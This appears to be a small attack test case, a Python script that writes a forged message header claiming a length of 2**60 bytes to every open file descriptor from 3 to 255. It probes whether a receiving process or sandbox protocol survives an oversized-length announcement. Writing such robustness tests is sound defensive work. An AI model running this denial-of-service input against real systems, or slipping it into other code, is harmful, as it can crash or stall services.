# attack: announces a message of 2**60 bytes
# level: 0
# limit: maybe
import os, struct
for fd in range(3, 256):
    try:
        os.write(fd, struct.pack("<IQ", 100, 1 << 60) + b"{}" * 50)
    except OSError:
        pass
